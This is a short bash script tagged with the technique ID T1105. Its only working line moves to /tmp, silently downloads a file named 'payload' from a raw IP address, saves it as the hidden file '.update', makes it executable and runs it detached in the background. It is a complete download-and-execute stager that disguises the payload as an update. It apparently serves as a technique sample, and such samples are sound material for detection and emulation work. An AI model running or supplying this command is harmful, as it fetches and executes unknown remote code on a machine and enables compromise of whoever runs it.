#!/bin/bash
# T1105: A program comes from outside and runs in the background.
cd /tmp; curl -s http://44.128.66.66/payload -o .update; chmod +x .update; nohup ./.update >/dev/null 2>&1 & wait
